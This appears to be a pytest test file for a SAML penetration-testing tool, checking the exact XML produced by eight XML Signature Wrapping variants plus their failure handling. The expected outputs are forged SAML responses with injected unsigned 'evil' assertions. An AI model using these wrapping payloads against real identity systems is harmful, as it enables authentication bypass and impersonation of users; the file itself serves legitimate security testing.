"""Tests for XML Signature Wrapping attacks."""

import re

import pytest

from samlraider.core.errors import ElementNotFoundError, ErrorCode, InvalidVariantError
from samlraider.core.saml.attacks import (
    EVIL_ASSERTION_ID,
    EVIL_RESPONSE_ID,
    XSW_DESCRIPTIONS,
    AttackResult,
    XSWVariant,
    apply_xsw,
    apply_xsw1,
    apply_xsw3,
    apply_xsw5,
    get_variant_description,
)

# Minimal documents so the attacked output can be compared exactly
RESPONSE_SIGNED = (
    '<Response ID="r"><Signature><SignedInfo/></Signature>'
    '<Assertion ID="a"><NameID>bob</NameID></Assertion></Response>'
)
ASSERTION_SIGNED = (
    '<Response ID="r"><Assertion ID="a"><Signature><SignedInfo/></Signature>'
    "<NameID>bob</NameID></Assertion></Response>"
)

EXPECTED = {
    1: (
        RESPONSE_SIGNED,
        '<Response ID="_evil_response_ID"><Signature><SignedInfo/>'
        '<Response ID="r"><Assertion ID="a"><NameID>bob</NameID></Assertion></Response>'
        '</Signature><Assertion ID="a"><NameID>evil-bob</NameID></Assertion></Response>',
    ),
    2: (
        RESPONSE_SIGNED,
        '<Response ID="_evil_response_ID">'
        '<Response ID="r"><Assertion ID="a"><NameID>bob</NameID></Assertion></Response>'
        '<Signature><SignedInfo/></Signature>'
        '<Assertion ID="a"><NameID>evil-bob</NameID></Assertion></Response>',
    ),
    3: (
        ASSERTION_SIGNED,
        '<Response ID="r">'
        '<Assertion ID="_evil_assertion_ID"><NameID>evil-bob</NameID></Assertion>'
        '<Assertion ID="a"><Signature><SignedInfo/></Signature><NameID>bob</NameID></Assertion>'
        "</Response>",
    ),
    4: (
        ASSERTION_SIGNED,
        '<Response ID="r">'
        '<Assertion ID="_evil_assertion_ID"><NameID>evil-bob</NameID>'
        '<Assertion ID="a"><Signature><SignedInfo/></Signature><NameID>bob</NameID></Assertion>'
        "</Assertion></Response>",
    ),
    5: (
        ASSERTION_SIGNED,
        '<Response ID="r">'
        '<Assertion ID="_evil_assertion_ID"><Signature><SignedInfo/></Signature>'
        "<NameID>evil-bob</NameID></Assertion>"
        '<Assertion ID="a"><NameID>bob</NameID></Assertion></Response>',
    ),
    6: (
        ASSERTION_SIGNED,
        '<Response ID="r">'
        '<Assertion ID="_evil_assertion_ID"><Signature><SignedInfo/>'
        '<Assertion ID="a"><NameID>bob</NameID></Assertion></Signature>'
        "<NameID>evil-bob</NameID></Assertion></Response>",
    ),
    7: (
        ASSERTION_SIGNED,
        '<Response ID="r">'
        '<Extensions><Assertion ID="_evil_assertion_ID"><NameID>evil-bob</NameID></Assertion></Extensions>'
        '<Assertion ID="a"><Signature><SignedInfo/></Signature><NameID>bob</NameID></Assertion>'
        "</Response>",
    ),
    8: (
        ASSERTION_SIGNED,
        '<Response ID="r">'
        '<Assertion ID="_evil_assertion_ID"><Signature><SignedInfo/>'
        '<ds:Object><Assertion ID="a"><NameID>bob</NameID></Assertion></ds:Object></Signature>'
        "<NameID>evil-bob</NameID></Assertion></Response>",
    ),
}

SIGNATURE_OPEN = re.compile(r"<ds:Signature[\s>]")


class TestVariantShapes:
    """Exact output of every variant on minimal unprefixed documents."""

    @pytest.mark.parametrize("variant", sorted(EXPECTED))
    def test_variant_output(self, variant):
        """Test the document each variant produces."""
        source, expected = EXPECTED[variant]
        result = apply_xsw(source, variant)
        assert result.success, result.error
        assert result.xml == expected
        assert result.variant == variant


class TestResponseWrapping:
    """Tests for XSW1 and XSW2 on a Response-signed message."""

    def test_xsw1_nests_clone_in_signature(self, signed_response):
        """Test that the clean Response clone ends up inside the Signature."""
        result = apply_xsw(signed_response, 1)
        assert result.success
        xml = result.xml
        assert f'ID="{EVIL_RESPONSE_ID}"' in xml
        assert xml.count("<samlp:Response") == 2
        assert len(SIGNATURE_OPEN.findall(xml)) == 1
        assert xml.index('ID="_response_id_123"') < xml.index("</ds:Signature>")

    def test_xsw1_keeps_xml_declaration(self, signed_response):
        """Test that content around the Response is preserved."""
        result = apply_xsw(signed_response, 1)
        assert result.xml.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<samlp:Response')

    def test_xsw1_marks_only_evil_nameid(self, signed_response):
        """Test that the clone keeps the original NameID."""
        xml = apply_xsw(signed_response, 1).xml
        assert xml.count("evil-user@example.com</saml:NameID>") == 1
        assert xml.count(">user@example.com</saml:NameID>") == 1

    def test_xsw2_places_clone_before_signature(self, signed_response):
        """Test that the clone is a sibling before the Signature."""
        xml = apply_xsw(signed_response, 2).xml
        assert f'ID="{EVIL_RESPONSE_ID}"' in xml
        assert xml.index('ID="_response_id_123"') < SIGNATURE_OPEN.search(xml).start()
        assert len(SIGNATURE_OPEN.findall(xml)) == 1


class TestAssertionWrapping:
    """Tests for XSW3-XSW8 on realistic messages."""

    def test_xsw3_two_assertions(self, signed_response):
        """Test that an evil assertion is inserted before the original."""
        xml = apply_xsw(signed_response, 3).xml
        assert xml.count("<saml:Assertion") == 2
        assert xml.index(f'ID="{EVIL_ASSERTION_ID}"') < xml.index('ID="_assertion_id_456"')
        assert "evil-user@example.com" in xml

    def test_xsw3_evil_assertion_is_unsigned(self, assertion_signed_response):
        """Test that the evil copy carries no Signature."""
        xml = apply_xsw(assertion_signed_response, 3).xml
        evil_start = xml.index(f'ID="{EVIL_ASSERTION_ID}"')
        original_start = xml.index('ID="_assertion_abc"')
        assert "Signature" not in xml[evil_start:original_start]
        assert len(SIGNATURE_OPEN.findall(xml)) == 1

    def test_xsw4_original_inside_evil(self, signed_response):
        """Test that the original assertion becomes a child of the evil one."""
        xml = apply_xsw(signed_response, 4).xml
        assert xml.count("<saml:Assertion") == 2
        assert xml.index(f'ID="{EVIL_ASSERTION_ID}"') < xml.index('ID="_assertion_id_456"')
        assert xml.rstrip().endswith("</saml:Assertion></saml:Assertion>\n</samlp:Response>")

    def test_xsw5_response_id_untouched(self, signed_response):
        """Test that only the assertion ID is rewritten."""
        xml = apply_xsw(signed_response, 5).xml
        assert 'ID="_response_id_123"' in xml
        assert f'ID="{EVIL_RESPONSE_ID}"' not in xml
        assert xml.count(f'ID="{EVIL_ASSERTION_ID}"') == 1
        assert xml.count('ID="_assertion_id_456"') == 1

    def test_xsw5_clone_appended_last(self, signed_response):
        """Test that the clean clone is the last child of the Response."""
        xml = apply_xsw(signed_response, 5).xml
        assert xml.index(f'ID="{EVIL_ASSERTION_ID}"') < xml.index('ID="_assertion_id_456"')
        assert xml.endswith("</saml:Assertion></samlp:Response>")
        assert xml.count("evil-user@example.com") == 1

    def test_xsw6_clone_inside_response_signature(self, signed_response):
        """Test XSW6 against a Response-level signature."""
        xml = apply_xsw(signed_response, 6).xml
        signature_end = xml.index("</ds:Signature>")
        assert xml.index('ID="_assertion_id_456"') < signature_end
        assert xml.index(f'ID="{EVIL_ASSERTION_ID}"') > signature_end

    def test_xsw6_clone_inside_assertion_signature(self, assertion_signed_response):
        """Test XSW6 when the only signature lives in the assertion."""
        xml = apply_xsw(assertion_signed_response, 6).xml
        assert xml.index(f'ID="{EVIL_ASSERTION_ID}"') < xml.index('ID="_assertion_abc"')
        assert xml.index('ID="_assertion_abc"') < xml.index("</ds:Signature>")
        assert "evil-admin@example.com" in xml

    def test_xsw7_extensions_wrapper(self, signed_response):
        """Test that the evil assertion is wrapped in Extensions."""
        xml = apply_xsw(signed_response, 7).xml
        assert f'<Extensions><saml:Assertion ID="{EVIL_ASSERTION_ID}"' in xml
        assert "</saml:Assertion></Extensions>" in xml

    def test_xsw8_object_wrapper(self, signed_response):
        """Test that the clone is wrapped in ds:Object inside the Signature."""
        xml = apply_xsw(signed_response, 8).xml
        assert '<ds:Object><saml:Assertion ID="_assertion_id_456"' in xml
        assert xml.index("</ds:Object>") < xml.index("</ds:Signature>")

    @pytest.mark.parametrize("variant", range(1, 9))
    def test_every_variant_succeeds(self, signed_response, variant):
        """Test that all variants apply to the Response-signed message."""
        result = apply_xsw(signed_response, variant)
        assert result.success, result.error
        assert "evil-user@example.com" in result.xml


class TestFailures:
    """Tests for failure reporting."""

    @pytest.mark.parametrize("variant", [0, 9, -1, 100])
    def test_invalid_variant(self, signed_response, variant):
        """Test that out-of-range variants fail and name the valid range."""
        result = apply_xsw(signed_response, variant)
        assert not result.success
        assert result.xml is None
        assert "1-8" in result.error
        assert result.code == ErrorCode.INVALID_VARIANT
        assert result.variant is None

    def test_non_integer_variant(self, signed_response):
        """Test that a non-integer variant is rejected."""
        result = apply_xsw(signed_response, "3")
        assert not result.success
        assert result.code == ErrorCode.INVALID_VARIANT

    def test_missing_assertion(self):
        """Test the message for a document without an Assertion."""
        result = apply_xsw('<samlp:Response ID="r"></samlp:Response>', 3)
        assert not result.success
        assert result.error == "No SAML Assertion found in the XML"
        assert result.code == ErrorCode.NO_ASSERTION

    def test_missing_response(self):
        """Test the message for a document without a Response."""
        result = apply_xsw('<saml:Assertion ID="a"><ds:Signature></ds:Signature></saml:Assertion>', 1)
        assert result.error == "No Response element found"
        assert result.code == ErrorCode.NO_RESPONSE

    @pytest.mark.parametrize("variant", [1, 2, 6, 8])
    def test_missing_signature(self, variant):
        """Test that signature-dependent variants name themselves on failure."""
        xml = '<Response ID="r"><Assertion ID="a"><NameID>bob</NameID></Assertion></Response>'
        result = apply_xsw(xml, variant)
        assert result.error == f"No Signature element found for XSW{variant}"
        assert result.code == ErrorCode.NO_SIGNATURE
        assert result.variant == variant

    def test_xsw5_without_response(self):
        """Test XSW5 on a bare assertion."""
        result = apply_xsw('<Assertion ID="a"><NameID>bob</NameID></Assertion>', 5)
        assert result.error == "No Response closing tag found"
        assert result.code == ErrorCode.NO_RESPONSE

    def test_unexpected_error_is_contained(self):
        """Test that an unexpected exception becomes a failure result."""
        result = apply_xsw(None, 3)  # type: ignore[arg-type]
        assert not result.success
        assert result.error.startswith("Error applying XSW attack:")
        assert result.code == ErrorCode.UNKNOWN_ERROR

    def test_direct_variant_raises(self):
        """Test that the individual variant functions raise."""
        with pytest.raises(ElementNotFoundError) as exc_info:
            apply_xsw3("<Response></Response>")
        assert exc_info.value.kind == "Assertion"

    def test_source_is_not_modified(self, signed_response):
        """Test that a failed attack leaves the caller's text alone."""
        original = str(signed_response)
        apply_xsw1(signed_response)
        apply_xsw5(signed_response)
        assert signed_response == original


class TestCatalog:
    """Tests for the variant catalog."""

    def test_all_variants_described(self):
        """Test that every variant has a description."""
        assert set(XSW_DESCRIPTIONS) == set(XSWVariant)

    def test_get_description(self):
        """Test looking up a description by number."""
        assert "Extensions" in get_variant_description(7)

    def test_get_description_invalid(self):
        """Test that an unknown variant raises."""
        with pytest.raises(InvalidVariantError):
            get_variant_description(9)


class TestAttackResult:
    """Tests for AttackResult serialization."""

    def test_to_dict(self):
        """Test converting a failure to a dictionary."""
        data = AttackResult.fail("boom", variant=2, code=ErrorCode.NO_SIGNATURE).to_dict()
        assert data == {
            "success": False,
            "xml": None,
            "error": "boom",
            "variant": 2,
            "code": "NO_SIGNATURE",
        }
